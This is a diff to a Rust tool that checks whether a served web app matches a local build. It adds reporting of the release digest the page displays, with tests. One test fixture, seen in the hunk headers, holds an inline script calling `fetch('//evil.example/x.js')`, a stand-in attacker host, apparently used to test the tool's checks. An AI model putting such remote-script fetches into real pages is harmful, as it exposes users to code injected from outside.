@@ -3,6 +3,9 @@
 //! refers to, plus every file of the local build), recomputes the release
 //! digest and compares each file with a local build of this checkout. Names
 //! each file that differs, is missing or is extra, and fails if any does.
+//! The number the served page shows (`<meta name="confide-release">`) is
+//! reported too, marked when it is not the digest of what is served (the
+//! number alone proves nothing: a modified page can show any).
 //!
 //! Downloads use `curl` (with `--compressed`: the bytes compared are the
 //! decoded ones a browser sees).
@@ -37,6 +40,14 @@ pub fn run(args: &[String]) -> Result<(), String> {
     let report = verify(&url, &local)?;
     println!("\nServer {url}");
     println!("  release digest served: {}", report.served_digest);
+    // A page that shows another number than its files give differs from
+    // the build anyway (its own bytes, or other files): listed below.
+    let shown = match report.shown_digest.as_deref() {
+        None => "(no release digest)".to_string(),
+        Some(d) if d == report.served_digest => format!("{d}  (the same)"),
+        Some(d) => format!("{d}  (NOT the digest of what it serves)"),
+    };
+    println!("  the page shows:        {shown}");
     println!(
         "  release digest built:  {}  ({})",
         report.local_digest,
@@ -94,6 +105,8 @@ fn build_reference() -> Result<PathBuf, String> {
 pub struct Report {
     pub served_digest: String,
     pub local_digest: String,
+    /// The release digest the served page shows, if it shows one.
+    pub shown_digest: Option<String>,
     /// One line per file that differs, is missing on the server or is extra.
     pub differences: Vec<String>,
 }
@@ -184,9 +197,15 @@ pub fn verify(url: &str, local: &Path) -> Result<Report, String> {
         policies.extend(meta_policies(&String::from_utf8_lossy(page)));
     }
     differences.extend(csp_problems(&policies));
+    let served_digest = digest::of_manifest(&digest::manifest(&served));
+    let shown_digest = served
+        .iter()
+        .find(|(n, _)| n == "index.html")
+        .and_then(|(_, page)| digest::shown(page));
     Ok(Report {
-        served_digest: digest::of_manifest(&digest::manifest(&served)),
+        served_digest,
         local_digest: digest::of_manifest(&digest::manifest(&local_files)),
+        shown_digest,
         differences,
     })
 }
@@ -447,6 +466,13 @@ await import("/app-1.js"); fetch('//evil.example/x.js'); x = "a b.js";</script>"
             let _ = std::fs::write(dir.join(name), content);
         }
         let _ = std::fs::write(dir.join("w.js"), "worker");
+        let page = format!(
+            "<head>{}{}\"></head>",
+            digest::RELEASE_META,
+            digest::PLACEHOLDER
+        );
+        let _ = std::fs::write(dir.join("index.html"), page + files[0].1);
+        let _ = digest::stamp(dir);
     }
 
     #[test]
@@ -468,6 +494,11 @@ await import("/app-1.js"); fetch('//evil.example/x.js'); x = "a b.js";</script>"
             }
             Err(error) => panic!("{error}"),
         }
+        let shown = verify(&url, &local).map(|r| (r.shown_digest, r.served_digest));
+        match shown {
+            Ok((shown, served_digest)) => assert_eq!(shown, Some(served_digest)),
+            Err(error) => panic!("{error}"),
+        }
 
         // One byte changed in the worker's JS, which only the worker loader names.
         let _ = std::fs::write(served.join("w.js"), "workeR");
@@ -477,6 +508,8 @@ await import("/app-1.js"); fetch('//evil.example/x.js'); x = "a b.js";</script>"
         match report {
             Ok(report) => {
                 assert_ne!(report.served_digest, report.local_digest);
+                // The page still shows the genuine number: proves nothing.
+                assert_eq!(report.shown_digest, Some(report.local_digest.clone()));
                 assert_eq!(report.differences.len(), 2, "{:?}", report.differences);
                 assert!(report.differences[0].starts_with("missing on the server: style-1.css"));
                 assert!(report.differences[1].starts_with("differs: w.js"));
